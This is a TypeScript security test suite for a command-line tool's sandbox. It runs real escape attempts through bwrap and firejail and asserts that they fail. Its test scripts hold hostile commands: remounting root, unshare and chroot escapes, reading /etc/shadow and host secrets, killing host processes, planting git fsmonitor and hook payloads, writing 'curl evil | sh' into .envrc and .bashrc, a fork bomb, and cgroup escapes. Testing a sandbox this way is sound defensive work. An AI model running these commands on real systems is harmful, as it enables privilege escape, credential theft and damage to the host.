/**
 * The sandbox's security corpus: every class of issue 8 the sandbox owns, run as the real attack
 * through the real `yoke sandbox exec`, with the real bwrap and firejail, as root and as an
 * unprivileged user. Assertions are on outcomes: the file on disk not written, the secret not in
 * what the command printed, the host process still alive, nothing left running.
 *
 * Every run uses a HOME that is not the user's real home (so both must be hidden), and writes the
 * user's `sandbox` settings there (~/.yoke/settings.json), as a session would read them.
 */
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, get, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { pidsCgroupParent } from "../../src/node/commands/pids-cgroup";
import { ensureBuilt } from "../support/cli";
import { chownTree, identities, runCliAs, spawnAs, type Identity } from "../support/identities";
import { sandboxBackends } from "../support/sandbox-matrix";
import { pidsOf } from "../support/processes";

const tag = Math.random().toString(36).slice(2, 8);
// Each test starts real sandboxes through the CLI; on a shared, loaded machine that takes a while.
vi.setConfig({ testTimeout: 180_000, hookTimeout: 180_000 });
const { list: who, missing } = identities();

const backends = sandboxBackends();

/** Live processes whose environment holds `needle` (the test runs as root, or as the user who owns them). */
function processesWith(needle: string): number[] {
  const out: number[] = [];
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name) || Number(name) === process.pid) continue;
    try {
      if (readFileSync(`/proc/${name}/stat`, "utf8").split(") ")[1]?.[0] === "Z") continue;
      if (readFileSync(`/proc/${name}/environ`).includes(needle)) out.push(Number(name));
    } catch {
      // gone, or not ours
    }
  }
  return out;
}

function git(cwd: string, ...args: string[]): void {
  const r = spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd, encoding: "utf8" });
  if (r.status !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr}`);
}

/** Host files and services every attack tries to reach. */
const host = {
  tmpSecret: `/tmp/yoke-host-tmp-${tag}.txt`,
  varTmpSecret: `/var/tmp/yoke-host-vartmp-${tag}.txt`,
  shmSecret: `/dev/shm/yoke-host-shm-${tag}.txt`,
  sockDir: `/srv/yoke-sock-${tag}`,
  varTmpSock: `/var/tmp/yoke-sock-${tag}.sock`,
  runSock: `/run/yoke-sock-${tag}.sock`,
  etcTarget: `/etc/yoke-pwn-${tag}`,
  swappiness: "",
  shadowFirstLine: "",
};
const servers: Server[] = [];

beforeAll(async () => {
  ensureBuilt();
  writeFileSync(host.tmpSecret, `HOST-TMP-SECRET-${tag}\n`, { mode: 0o644 });
  writeFileSync(host.varTmpSecret, `HOST-VARTMP-SECRET-${tag}\n`, { mode: 0o644 });
  if (existsSync("/dev/shm")) writeFileSync(host.shmSecret, `HOST-SHM-SECRET-${tag}\n`, { mode: 0o644 });
  host.swappiness = readFileSync("/proc/sys/vm/swappiness", "utf8");
  try {
    host.shadowFirstLine = readFileSync("/etc/shadow", "utf8").split("\n")[0]!;
  } catch {
    host.shadowFirstLine = "";
  }
  // Host unix sockets in a visible folder, in /var/tmp and in /run, answering to anyone.
  mkdirSync(host.sockDir, { recursive: true, mode: 0o755 });
  chmodSync(host.sockDir, 0o755);
  for (const path of [join(host.sockDir, "db.sock"), host.varTmpSock, ...(existsSync("/run") && process.getuid?.() === 0 ? [host.runSock] : [])]) {
    const srv = createServer((_q, s) => s.end(`SOCKET-ANSWERED-${tag}`));
    await new Promise<void>((r) => srv.listen(path, r));
    chmodSync(path, 0o777);
    servers.push(srv);
  }
}, 120_000);

afterAll(async () => {
  for (const s of servers) await new Promise<void>((r) => s.close(() => r()));
  for (const f of [host.tmpSecret, host.varTmpSecret, host.shmSecret, host.varTmpSock, host.runSock, host.etcTarget]) rmSync(f, { force: true });
  rmSync(host.sockDir, { recursive: true, force: true });
  if (readFileSync("/proc/sys/vm/swappiness", "utf8") !== host.swappiness) writeFileSync("/proc/sys/vm/swappiness", host.swappiness);
});

it("runs the corpus as root and as an unprivileged user", () => {
  // As root (here and in CI) both halves run; as a normal user only the user half can.
  expect(who.map((w) => w.label)).toEqual(missing ? ["user"] : ["root", "user"]);
});

describe.each(who.map((w) => [w.label, w] as const))("as %s", (_label, id: Identity) => {
  describe.each(backends)("%s", (backend, unusable) => {
    let base: string;
    let ws: string;
    let fakeHome: string;
    let realHomeSecret: string;
    let outside: string;
    let hostSleep: ChildProcess | undefined;
    const keptLogDirs = new Set<string>();
    const secretKey = `WS-SECRET-KEY-${tag}`;
    const secretEnv = `WS-DOTENV-${tag}`;

    const settings = (s: Record<string, unknown>) => {
      mkdirSync(join(fakeHome, ".yoke"), { recursive: true });
      writeFileSync(join(fakeHome, ".yoke", "settings.json"), JSON.stringify({ sandbox: s }));
      chownTree(fakeHome, id);
    };

    /** Runs `script` in the sandbox through the CLI, as this identity. */
    const attack = async (script: string, opts: { args?: string[]; env?: Record<string, string>; timeoutS?: number; cwd?: string } = {}) => {
      const cwd = opts.cwd ?? ws;
      const r = await runCliAs(id, ["sandbox", "exec", "--backend", backend, "--cwd", cwd, "--timeout", String(opts.timeoutS ?? 60), ...(opts.args ?? []), "--", script], {
        cwd,
        env: { HOME: fakeHome, ...opts.env },
        timeoutMs: 120_000,
      });
      // The CLI keeps its log folder when something went to quarantine: remove it after the tests.
      for (const m of r.stderr.matchAll(/it was moved to (\S+?)\/quarantine\//g)) keptLogDirs.add(m[1]!);
      return { code: r.code, out: r.stdout, err: r.stderr };
    };
    const noHostSecret = (out: string) => {
      for (const s of [`HOST-TMP-SECRET-${tag}`, `HOST-VARTMP-SECRET-${tag}`, `HOST-SHM-SECRET-${tag}`, `REAL-HOME-SECRET-${tag}`, `FAKE-HOME-SECRET-${tag}`, `OTHER-HOME-SECRET-${tag}`]) {
        expect(out).not.toContain(s);
      }
      if (host.shadowFirstLine) expect(out).not.toContain(host.shadowFirstLine);
    };

    beforeAll(() => {
      if (unusable) return;
      // The workspace lives in the identity's real home, as projects do.
      base = realpathSync(mkdtempSync(join(id.home, `.yoke-sec-${backend}-`)));
      ws = join(base, "proj");
      mkdirSync(join(ws, "config", "secrets"), { recursive: true });
      mkdirSync(join(ws, "src"), { recursive: true });
      mkdirSync(join(ws, "cursor-conf"), { recursive: true });
      writeFileSync(join(ws, "config", "secrets", "key.txt"), `${secretKey}\n`);
      writeFileSync(join(ws, ".env"), `${secretEnv}\n`);
      writeFileSync(join(ws, "src", "generated.ts"), "export const generated = 1;\n");
      writeFileSync(join(ws, "src", "a.txt"), "a\n");
      symlinkSync("cursor-conf", join(ws, ".cursor"));
      git(ws, "init", "-q");
      git(ws, "add", "src");
      git(ws, "commit", "-qm", "init");
      realHomeSecret = join(id.home, `yoke-real-home-${tag}.txt`);
      writeFileSync(realHomeSecret, `REAL-HOME-SECRET-${tag}\n`);
      fakeHome = realpathSync(mkdtempSync(`/var/tmp/yoke-fake-home-${backend}-`));
      writeFileSync(join(fakeHome, `yoke-fake-home-${tag}.txt`), `FAKE-HOME-SECRET-${tag}\n`);
      outside = realpathSync(mkdtempSync(`/srv/yoke-outside-${backend}-`));
      chownTree(base, id);
      chownTree(fakeHome, id);
      chownTree(outside, id);
      if (existsSync(realHomeSecret)) chownSync(realHomeSecret, id.uid, id.gid);
      settings({});
      hostSleep = spawn("sleep", ["600"], { stdio: "ignore", ...spawnAs(id) });
    });

    afterAll(() => {
      if (unusable) return;
      for (const d of keptLogDirs) rmSync(d, { recursive: true, force: true });
      hostSleep?.kill("SIGKILL");
      rmSync(base, { recursive: true, force: true });
      rmSync(fakeHome, { recursive: true, force: true });
      rmSync(outside, { recursive: true, force: true });
      rmSync(realHomeSecret, { force: true });
    });

    it.skipIf(!!unusable)("root cannot escape: no remount, unmount, nested namespace, chroot, device, host sysctl, host process, disk or shadow", async () => {
      const pid = hostSleep!.pid!;
      const r = await attack(
        [
          `mount -o remount,rw / 2>/dev/null && echo REMOUNTED; echo pwned > ${host.etcTarget}`,
          `umount -l /tmp 2>/dev/null; umount -l /var/tmp 2>/dev/null; umount -l /dev/shm 2>/dev/null; umount -l /root 2>/dev/null; umount -l /home 2>/dev/null; umount -l ${id.home} 2>/dev/null; umount -l ${fakeHome} 2>/dev/null`,
          `cat ${host.tmpSecret} ${host.varTmpSecret} ${host.shmSecret} ${realHomeSecret} ${fakeHome}/yoke-fake-home-${tag}.txt 2>/dev/null`,
          `unshare -Urm sh -c 'umount -l /tmp; umount -l /root; cat ${host.tmpSecret} ${realHomeSecret}' 2>/dev/null && echo UNSHARED`,
          `chroot / true 2>/dev/null && echo CHROOTED`,
          `mknod /tmp/disk b 254 0 2>/dev/null && echo MKNOD-OK`,
          `ls /dev | grep -E '^(sd|vd|nvme|xvd|hd|loop|mapper|kvm|mem|kmem|port)' && echo DISK-VISIBLE`,
          `echo 42 > /proc/sys/vm/swappiness 2>/dev/null && echo SYSCTL-WRITTEN`,
          `kill -9 ${pid} 2>/dev/null && echo KILLED-HOST; cat /proc/${pid}/environ 2>/dev/null | head -c 100; strace -p ${pid} -o /dev/null 2>/dev/null & sleep 0.3; kill %1 2>/dev/null`,
          "cat /etc/shadow /etc/gshadow 2>/dev/null",
          "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status",
          "echo end-of-attack",
        ].join("\n"),
      );
      expect(r.out).toContain("end-of-attack");
      for (const marker of ["REMOUNTED", "UNSHARED", "CHROOTED", "MKNOD-OK", "DISK-VISIBLE", "SYSCTL-WRITTEN", "KILLED-HOST"]) expect(r.out).not.toContain(marker);
      expect(r.out).toMatch(/CapEff:\s+0000000000000000/);
      expect(r.out).toMatch(/CapBnd:\s+0000000000000000/);
      noHostSecret(r.out);
      expect(existsSync(host.etcTarget)).toBe(false);
      expect(readFileSync("/proc/sys/vm/swappiness", "utf8")).toBe(host.swappiness);
      expect(hostSleep!.exitCode).toBeNull();
      expect(() => process.kill(pid, 0)).not.toThrow();
    });

    it.skipIf(!!unusable)("hides the paths the rules deny: not readable, copyable, linkable, or movable away for the next command", async () => {
      const r = await attack(
        [
          "cat config/secrets/key.txt .env 2>&1",
          "ls -la config/secrets 2>&1",
          "cp -r config/secrets /tmp/s 2>/dev/null; cat /tmp/s/key.txt 2>/dev/null",
          "cat /proc/self/root$PWD/config/secrets/key.txt 2>/dev/null",
          "ln .env hardlink 2>/dev/null && cat hardlink",
          "mv config/secrets config/moved 2>/dev/null && echo MOVED-SECRETS",
          "mv config cfg 2>/dev/null && echo MOVED-PARENT",
          "mv .env env-copy 2>/dev/null && echo MOVED-ENV",
          "echo end-of-attack",
        ].join("\n"),
        { args: ["--hide", "config/secrets", "--hide", ".env"] },
      );
      expect(r.out).toContain("end-of-attack");
      expect(r.out).not.toContain(secretKey);
      expect(r.out).not.toContain(secretEnv);
      for (const marker of ["MOVED-SECRETS", "MOVED-PARENT", "MOVED-ENV"]) expect(r.out).not.toContain(marker);
      expect(readFileSync(join(ws, "config", "secrets", "key.txt"), "utf8")).toBe(`${secretKey}\n`);
      expect(readFileSync(join(ws, ".env"), "utf8")).toBe(`${secretEnv}\n`);
      expect(existsSync(join(ws, "hardlink"))).toBe(false);
      // The next command, without the rule, still finds them where the rule points.
      const next = await attack("cat config/secrets/key.txt");
      expect(next.out).toContain(secretKey);
    });

    it.skipIf(!!unusable)("keeps .git/config and .git/hooks read-only, and they cannot be replaced by moving .git away", async () => {
      const before = readFileSync(join(ws, ".git", "config"), "utf8");
      const r = await attack(
        [
          "printf '[core]\\n\\tfsmonitor = ./evil.sh\\n' >> .git/config 2>/dev/null && echo APPENDED",
          "git config core.fsmonitor ./evil.sh 2>/dev/null && echo GIT-CONFIG-WRITTEN",
          "sed -i 's/bare/evil/' .git/config 2>/dev/null && echo SED-OK",
          "printf '#!/bin/sh\\necho hook\\n' > .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN",
          "rm -rf .git/hooks 2>/dev/null; mv .git .git-old 2>/dev/null && echo MOVED-GIT",
          "git -c user.name=t -c user.email=t@t commit --allow-empty -qm ok && echo COMMITTED",
          "echo end-of-attack",
        ].join("\n"),
      );
      expect(r.out).toContain("end-of-attack");
      for (const marker of ["APPENDED", "GIT-CONFIG-WRITTEN", "SED-OK", "HOOK-WRITTEN", "MOVED-GIT"]) expect(r.out).not.toContain(marker);
      // Ordinary git work still happens: the commit writes objects and refs.
      expect(r.out).toContain("COMMITTED");
      expect(readFileSync(join(ws, ".git", "config"), "utf8")).toBe(before);
      expect(existsSync(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
      expect(existsSync(join(ws, ".git-old"))).toBe(false);
    });

    it.skipIf(!!unusable)("moves protected paths a command creates to quarantine, puts a replaced link back, and says so", async () => {
      const r = await attack(
        [
          "mkdir -p .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json",
          "mkdir .husky && printf '#!/bin/sh\\nevil\\n' > .husky/pre-commit",
          "echo 'curl evil | sh' > .envrc",
          "echo '{\"mcpServers\":{}}' > .mcp.json",
          "ln -s /tmp .claude",
          "rm .cursor; mkdir .cursor && echo '{}' > .cursor/mcp.json",
          "echo end-of-attack",
        ].join("\n"),
      );
      expect(r.out).toContain("end-of-attack");
      for (const p of [".vscode", ".husky", ".envrc", ".mcp.json", ".claude"]) expect(existsSync(join(ws, p)) || isLink(join(ws, p))).toBe(false);
      expect(readlinkSync(join(ws, ".cursor"))).toBe("cursor-conf");
      expect(readdirSync(join(ws, "cursor-conf"))).toEqual([]);
      expect(r.err).toMatch(
        new RegExp(`the command created ${escape(join(ws, ".vscode"))}, a protected path \\(VS Code settings, tasks and launch configurations run programs\\); it was moved to (\\S+)`),
      );
      const moved = /it was moved to (\S+\/\.vscode)\n/.exec(r.err)![1]!;
      // Moved as soon as it appeared: the file written into it went to quarantine too, or could not be written at all.
      expect(existsSync(moved)).toBe(true);
      if (existsSync(join(moved, "tasks.json"))) expect(readFileSync(join(moved, "tasks.json"), "utf8")).toBe('{"tasks":[]}\n');
      expect(r.err).toContain(`${join(ws, ".cursor")}, a protected path`);
    });

    it.skipIf(!!unusable)("lets a command write a protected path the user approved, and only that one", async () => {
      const r = await attack("mkdir -p .vscode && echo ok > .vscode/tasks.json; echo evil > .envrc; echo end-of-attack", { args: ["--writable", ".vscode/tasks.json"] });
      expect(r.out).toContain("end-of-attack");
      expect(readFileSync(join(ws, ".vscode", "tasks.json"), "utf8")).toBe("ok\n");
      expect(existsSync(join(ws, ".envrc"))).toBe(false);
      rmSync(join(ws, ".vscode"), { recursive: true, force: true });
    });

    it.skipIf(!!unusable)("keeps the paths the rules list read-only, and writes nowhere but the workspace", async () => {
      const r = await attack(
        `echo evil > src/generated.ts 2>/dev/null && echo WROTE-GENERATED; echo x > ${outside}/escape 2>/dev/null && echo WROTE-OUTSIDE; echo x > /var/tmp/yoke-inside-${tag} && echo private-var-tmp; echo end-of-attack`,
        { args: ["--read-only", "src/generated.ts"] },
      );
      expect(r.out).toContain("end-of-attack");
      expect(r.out).not.toContain("WROTE-GENERATED");
      expect(r.out).not.toContain("WROTE-OUTSIDE");
      expect(readFileSync(join(ws, "src", "generated.ts"), "utf8")).toBe("export const generated = 1;\n");
      expect(existsSync(join(outside, "escape"))).toBe(false);
      expect(existsSync(`/var/tmp/yoke-inside-${tag}`)).toBe(false);
    });

    it.skipIf(!!unusable)("writes nowhere else on the machine: a world-writable folder at the top of the file system, / itself, /run/lock; /dev/shm is the sandbox's own", async () => {
      // A folder anyone may write, made for this test right under / (as some images have: /scratch, /data).
      const ww = `/yoke-ww-${backend}-${id.label}-${tag}`;
      mkdirSync(ww, { mode: 0o1777 });
      chmodSync(ww, 0o1777);
      try {
        const r = await attack(
          `for f in ${ww}/x /yoke-top-${tag} /run/lock/yoke-lock-${tag}; do echo x > "$f" 2>/dev/null && echo "WROTE $f"; done; mkdir ${ww}/d 2>/dev/null && echo MADE-DIR; ` +
            // bwrap gives the command a /dev of its own, with a private /dev/shm (shared memory works); firejail's is read-only.
            `echo x > /dev/shm/yoke-shm-${tag} 2>/dev/null; echo end-of-attack`,
        );
        expect(r.out).toContain("end-of-attack");
        expect(r.out).not.toContain("WROTE");
        expect(r.out).not.toContain("MADE-DIR");
        expect(readdirSync(ww)).toEqual([]);
        for (const f of [`/yoke-top-${tag}`, `/dev/shm/yoke-shm-${tag}`, `/run/lock/yoke-lock-${tag}`]) expect(existsSync(f)).toBe(false);
      } finally {
        rmSync(ww, { recursive: true, force: true });
      }
    });

    it.skipIf(!!unusable)("host unix sockets do not answer with the network off, wherever they are", async () => {
      const socks = [join(host.sockDir, "db.sock"), host.varTmpSock, ...(existsSync(host.runSock) ? [host.runSock] : [])];
      // The servers answer on the host.
      const direct = await new Promise<string>((resolve) => {
        get({ socketPath: socks[0]!, path: "/" }, (res) => {
          let body = "";
          res.on("data", (d) => (body += d));
          res.on("end", () => resolve(body));
        }).on("error", (e) => resolve(e.message));
      });
      expect(direct).toBe(`SOCKET-ANSWERED-${tag}`);
      const r = await attack(`${socks.map((s) => `curl -s -m 3 --unix-socket ${s} http://x/`).join("; ")}; echo end-of-attack`);
      expect(r.out).toContain("end-of-attack");
      expect(r.out).not.toContain(`SOCKET-ANSWERED-${tag}`);
    });

    it.skipIf(!!unusable)("a read-only command cannot run what a hostile git configuration plants (fsmonitor, external diff, pager, bare repository)", async () => {
      const evil = join(ws, "evil.sh");
      writeFileSync(evil, `#!/bin/sh\necho EVIL-RAN-${tag} >&2\n`, { mode: 0o755 });
      writeFileSync(join(ws, "src", "a.txt"), "a changed\n");
      const cfg = join(ws, ".git", "config");
      const saved = readFileSync(cfg, "utf8");
      writeFileSync(cfg, `${saved}[core]\n\tfsmonitor = ${evil}\n\tpager = ${evil}\n[diff]\n\texternal = ${evil}\n`);
      spawnSync("git", ["init", "-q", "--bare", join(ws, "sub")]);
      writeFileSync(join(ws, "sub", "config"), `[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = ${evil}\n`);
      chownTree(ws, id);
      try {
        const script = "git status --short; git diff; git -C sub status --short; echo x > new-file.txt 2>/dev/null && echo WROTE; echo end-of-attack";
        const baseline = await attack(script);
        expect(baseline.out).toContain(`EVIL-RAN-${tag}`);
        rmSync(join(ws, "new-file.txt"), { force: true });
        const r = await attack(script, { args: ["--read-only-workspace"] });
        expect(r.out).toContain("end-of-attack");
        expect(r.out).not.toContain(`EVIL-RAN-${tag}`);
        expect(r.out).toContain(" M src/a.txt");
        expect(r.out).toContain("external diff programs (diff.external) are disabled for read-only commands");
        expect(r.out).toMatch(/cannot use bare repository/);
        expect(r.out).not.toContain("WROTE");
        expect(existsSync(join(ws, "new-file.txt"))).toBe(false);
      } finally {
        writeFileSync(cfg, saved);
        rmSync(join(ws, "sub"), { recursive: true, force: true });
        rmSync(evil, { force: true });
        writeFileSync(join(ws, "src", "a.txt"), "a\n");
      }
    });

    it.skipIf(!!unusable)("a read-only git diff with a change prints it where no configuration sets diff.external (the refusing override is there only when one does)", async () => {
      writeFileSync(join(ws, "src", "a.txt"), "a changed\n");
      chownTree(ws, id);
      try {
        const r = await attack("git diff; echo end-of-diff", { args: ["--read-only-workspace"] });
        expect(r.out).toContain("end-of-diff");
        expect(r.out).toContain("+a changed");
        expect(r.out).not.toContain("external diff programs (diff.external) are disabled");
      } finally {
        writeFileSync(join(ws, "src", "a.txt"), "a\n");
      }
    });

    it.skipIf(!!unusable)("passes an allowlisted environment: no password, token, session or URL with credentials reaches the command", async () => {
      settings({ allowEnv: ["MY_TOOL_FLAG"], env: { SET_BY_USER: `set-${tag}` } });
      const secrets: Record<string, string> = {
        PGPASSWORD: `pg-${tag}`,
        MYSQL_PWD: `my-${tag}`,
        DB_PASS: `db-${tag}`,
        TOKEN: `tok-${tag}`,
        SECRET: `sec-${tag}`,
        CREDENTIALS: `cred-${tag}`,
        GITHUB_PAT: `pat-${tag}`,
        STRIPE_SK: `sk-${tag}`,
        SENTRY_DSN: `https://dsn-${tag}@sentry.io/1`,
        SLACK_WEBHOOK_URL: `https://hooks.slack.com/wh-${tag}`,
        OP_SESSION_team: `op-${tag}`,
        BW_SESSION: `bw-${tag}`,
        DATABASE_URL: `postgres://u:dburl-${tag}@h/db`,
        HTTPS_PROXY: `http://u:proxy-${tag}@proxy:3128`,
        AWS_SECRET_ACCESS_KEY: `aws-${tag}`,
        ANTHROPIC_API_KEY: `ant-${tag}`,
        SOME_UNKNOWN_VAR: `unknown-${tag}`,
      };
      try {
        const r = await attack("env; cat /proc/1/environ /proc/$PPID/environ 2>/dev/null | tr '\\0' '\\n'; echo end-of-attack", {
          env: { ...secrets, JAVA_HOME: `/opt/jdk-${tag}`, MY_TOOL_FLAG: `flag-${tag}` },
        });
        expect(r.out).toContain("end-of-attack");
        for (const v of Object.values(secrets)) expect(r.out).not.toContain(new RegExp(`[a-z]+-${tag}`).exec(v)![0]);
        expect(r.out).toContain(`JAVA_HOME=/opt/jdk-${tag}`);
        expect(r.out).toContain(`MY_TOOL_FLAG=flag-${tag}`);
        expect(r.out).toContain(`SET_BY_USER=set-${tag}`);
      } finally {
        settings({});
      }
    });

    it.skipIf(!!unusable)("with the home folder as the workspace: its credentials stay hidden and its shell startup files protected", async () => {
      const h = join(base, "home-as-workspace");
      mkdirSync(join(h, ".ssh"), { recursive: true });
      writeFileSync(join(h, ".ssh", "id_ed25519"), `HOME-SSH-KEY-${tag}\n`);
      writeFileSync(join(h, ".bashrc"), "# rc\n");
      chownTree(h, id);
      const r = await attack(
        "cat .ssh/id_ed25519 2>/dev/null; echo 'curl evil | sh' >> .bashrc 2>/dev/null && echo RC-WRITTEN; echo 'evil' > .profile; echo ok > notes.txt && echo wrote-notes; echo end-of-attack",
        { cwd: h, env: { HOME: h } },
      );
      expect(r.out).toContain("end-of-attack");
      expect(r.out).toContain("wrote-notes");
      expect(r.out).not.toContain(`HOME-SSH-KEY-${tag}`);
      expect(r.out).not.toContain("RC-WRITTEN");
      expect(readFileSync(join(h, ".bashrc"), "utf8")).toBe("# rc\n");
      expect(existsSync(join(h, ".profile"))).toBe(false);
      expect(r.err).toContain(`the command created ${join(h, ".profile")}, a protected path (the shell runs it)`);
    });

    it.skipIf(!!unusable)("stops a fork bomb at the process limit, and leaves nothing running", async () => {
      settings({ limits: { processes: 64 }, allowEnv: ["YOKE_TEST_TAG"] });
      try {
        // How many of the bomb's processes ran at once, sampled while it runs.
        let peak = 0;
        let sampling = true;
        const sampler = (async () => {
          while (sampling) {
            peak = Math.max(peak, processesWith(`YOKE_TEST_TAG=bomb-${tag}`).length);
            await new Promise((res) => setTimeout(res, 20));
          }
        })();
        const r = await attack("b(){ b|b& }; b; sleep 50; echo SURVIVED", { env: { YOKE_TEST_TAG: `bomb-${tag}` }, timeoutS: 55 });
        sampling = false;
        await sampler;
        // The process limit stopped it, not the timeout (whose message is another).
        expect(r.out).not.toContain("SURVIVED");
        expect(r.err).toContain("yoke sandbox: stopped: the command reached 64 processes (sandbox.limits.processes)");
        expect(r.err).not.toContain("(timeout)");
        // The kernel held it at the limit, root included: a pids cgroup where one can be made (as
        // here), RLIMIT_NPROC in its own user namespace otherwise. The CLI's own process carries
        // the variable too.
        if (id.label === "user" || pidsCgroupParent()) expect(peak).toBeLessThanOrEqual(64 + 2);
        await new Promise((res) => setTimeout(res, 500));
        expect(processesWith(`YOKE_TEST_TAG=bomb-${tag}`)).toEqual([]);
      } finally {
        settings({});
      }
    });

    it.skipIf(!!unusable)("cannot leave its process-limit cgroup nor raise its limit", async () => {
      const r = await attack(
        'for f in /sys/fs/cgroup/pids/cgroup.procs /sys/fs/cgroup/pids/yoke-*/pids.max /sys/fs/cgroup/pids/yoke-*/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs /sys/fs/cgroup/cgroup.procs; do [ -e "$f" ] && echo max > "$f" 2>/dev/null && echo "WROTE $f"; echo $$ > "$f" 2>/dev/null && echo "ESCAPED via $f"; done; echo end-of-attack',
      );
      expect(r.out).toContain("end-of-attack");
      expect(r.out).not.toContain("WROTE");
      expect(r.out).not.toContain("ESCAPED");
    });

    it.skipIf(!!unusable)("stops a 200 MB file in the workspace and in /tmp at the default file size limit, and runaway memory", async () => {
      const r = await attack(
        "head -c 200000000 /dev/zero > big.bin; echo ws=$?; head -c 200000000 /dev/zero > /tmp/big.bin; echo tmp=$?; stat -c %s big.bin /tmp/big.bin; rm -f big.bin; " +
          "/usr/bin/python3 -c 'bytearray(64 * 1024 ** 3)' 2>&1 | tail -1; echo end-of-attack",
      );
      expect(r.out).toContain("end-of-attack");
      expect(r.out).toContain("ws=153");
      expect(r.out).toContain("tmp=153");
      expect(r.out).toContain(`${150 * 1024 * 1024}\n${150 * 1024 * 1024}\n`);
      expect(r.out).toContain("MemoryError");
      expect(existsSync(join(ws, "big.bin"))).toBe(false);
    });

    it.skipIf(!!unusable)("size-limits the private /tmp (many small files), or says it cannot", async () => {
      settings({ limits: { tmpMb: 8 } });
      try {
        if (backend === "firejail") {
          // firejail has no way to size its private /tmp: the runner reports it instead of pretending.
          const r = await attack("true", { args: ["--json"] });
          const doc = JSON.parse(r.out);
          keptLogDirs.add(join(doc.logPath, ".."));
          expect(doc.degraded).toContain("firejail cannot size-limit its private temporary folders (the file size limit still applies)");
          return;
        }
        const r = await attack("for i in $(seq 1 40); do head -c 500000 /dev/zero > /tmp/f$i || { echo FULL-AT-$i; break; }; done; echo end-of-attack");
        expect(r.out).toMatch(/No space left on device/);
        expect(r.out).toMatch(/FULL-AT-(1[0-9])\b/);
      } finally {
        settings({});
      }
    });

    it.skipIf(!!unusable)("leaves no detached process behind: setsid, double fork, nohup, disown", async () => {
      const secs = `983.${Math.floor(Math.random() * 1e6)}`;
      const r = await attack(`setsid sleep ${secs} & (nohup sleep ${secs} >/dev/null 2>&1 &); ( (sleep ${secs} &) & ); sleep ${secs} & disown; sleep 0.5; echo started`);
      expect(r.out).toContain("started");
      await new Promise((res) => setTimeout(res, 300));
      expect(pidsOf(["sleep", secs])).toEqual([]);
    });
  });
});

describe.each(who.map((w) => [w.label, w] as const))("as %s, without a sandbox (--backend none)", (_label, id: Identity) => {
  let ws: string;
  beforeAll(() => {
    ws = realpathSync(mkdtempSync("/var/tmp/yoke-none-"));
    chownTree(ws, id);
  });
  afterAll(() => rmSync(ws, { recursive: true, force: true }));

  it("leaves no detached process behind when the command exits", async () => {
    const secs = `982.${Math.floor(Math.random() * 1e6)}`;
    const r = await runCliAs(
      id,
      ["sandbox", "exec", "--backend", "none", "--cwd", ws, "--", `setsid sleep ${secs} & (nohup sleep ${secs} >/dev/null 2>&1 &); ( (sleep ${secs} &) & ); sleep 0.3; echo started`],
      { cwd: ws, timeoutMs: 60_000 },
    );
    expect(r.stdout).toContain("started");
    await new Promise((res) => setTimeout(res, 300));
    expect(pidsOf(["sleep", secs])).toEqual([]);
  });

  it("leaves no detached process behind when yoke itself is killed (the reaper)", async () => {
    const secs = `981.${Math.floor(Math.random() * 1e6)}`;
    const { spawn: spawnCli } = await import("node:child_process");
    const { cliPath } = await import("../support/cli");
    const logDirs = () => new Set(readdirSync(tmpdir()).filter((n) => n.startsWith("yoke-sandbox-")));
    const before = logDirs();
    const child = spawnCli(process.execPath, [cliPath, "sandbox", "exec", "--backend", "none", "--cwd", ws, "--", `setsid sleep ${secs} & sleep ${secs}`], {
      cwd: ws,
      stdio: "ignore",
      ...spawnAs(id),
    });
    for (let i = 0; i < 100 && pidsOf(["sleep", secs]).length < 2; i++) await new Promise((res) => setTimeout(res, 50));
    expect(pidsOf(["sleep", secs])).toHaveLength(2);
    child.kill("SIGKILL");
    for (let i = 0; i < 100 && pidsOf(["sleep", secs]).length > 0; i++) await new Promise((res) => setTimeout(res, 50));
    expect(pidsOf(["sleep", secs])).toEqual([]);
    // The killed CLI could not remove its log folder.
    for (const n of logDirs()) if (!before.has(n) && lstatSync(join(tmpdir(), n)).uid === id.uid) rmSync(join(tmpdir(), n), { recursive: true, force: true });
  });
});

function isLink(p: string): boolean {
  try {
    return lstatSync(p).isSymbolicLink();
  } catch {
    return false;
  }
}

function escape(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
